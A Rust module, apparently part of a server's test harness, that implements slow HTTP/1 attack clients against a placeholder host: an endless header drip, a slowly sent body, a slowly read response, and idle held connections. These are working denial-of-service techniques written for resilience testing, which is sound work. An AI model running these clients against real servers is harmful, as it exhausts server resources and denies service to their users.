//! Clients that are slow on purpose, over HTTP/1.

use std::io;
use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{sleep, timeout};

use super::attack::Doing;

/// A head that never ends.
pub(crate) async fn head(address: SocketAddr, doing: &Doing) -> io::Result<()> {
    let begin = b"GET / HTTP/1.1\r\nHost: shop.example.test\r\n";
    drip(address, doing, begin, b"X-More: of it\r\n", Duration::from_millis(500)).await
}

/// A body that is sent slowly.
pub(crate) async fn body(address: SocketAddr, doing: &Doing) -> io::Result<()> {
    let begin = b"POST / HTTP/1.1\r\nHost: shop.example.test\r\nContent-Type: text/plain\r\nContent-Length: 1000000\r\n\r\n";
    drip(address, doing, begin, &[b'a'; 100], Duration::from_secs(1)).await
}

/// Sends more and more, slowly, until the other side has enough of it.
async fn drip(
    address: SocketAddr,
    doing: &Doing,
    begin: &[u8],
    more: &[u8],
    pause: Duration,
) -> io::Result<()> {
    let mut stream = TcpStream::connect(address).await?;
    stream.write_all(begin).await?;
    doing.begin();
    let mut answer = [0; 512];
    while !doing.is_over() {
        // An answer means that it is over: 408, or the end.
        match timeout(pause, stream.read(&mut answer)).await {
            Err(_) => stream.write_all(more).await?,
            Ok(read) => {
                read?;
                return Err(io::ErrorKind::ConnectionReset.into());
            }
        }
    }
    Ok(())
}

/// An answer that is read slowly.
pub(crate) async fn read(address: SocketAddr, doing: &Doing) -> io::Result<()> {
    let socket = TcpSocket::new_v4()?;
    socket.set_recv_buffer_size(4 << 10)?;
    let mut stream = socket.connect(address).await?;
    stream.write_all(b"GET /bytes/16777216 HTTP/1.1\r\nHost: shop.example.test\r\n\r\n").await?;
    doing.begin();
    let mut part = [0; 1 << 10];
    while !doing.is_over() {
        if stream.read(&mut part).await? == 0 {
            return Err(io::ErrorKind::UnexpectedEof.into());
        }
        sleep(Duration::from_millis(500)).await;
    }
    Ok(())
}

/// A connection that is kept for nothing.
pub(crate) async fn idle(address: SocketAddr, doing: &Doing) -> io::Result<()> {
    let mut stream = TcpStream::connect(address).await?;
    stream.write_all(b"GET /small HTTP/1.1\r\nHost: shop.example.test\r\n\r\n").await?;
    let mut answer = [0; 512];
    if stream.read(&mut answer).await? == 0 {
        return Err(io::ErrorKind::UnexpectedEof.into());
    }
    doing.begin();
    while !doing.is_over() {
        if let Ok(read) = timeout(Duration::from_secs(5), stream.read(&mut answer)).await
            && read? == 0
        {
            return Err(io::ErrorKind::UnexpectedEof.into());
        }
    }
    Ok(())
}
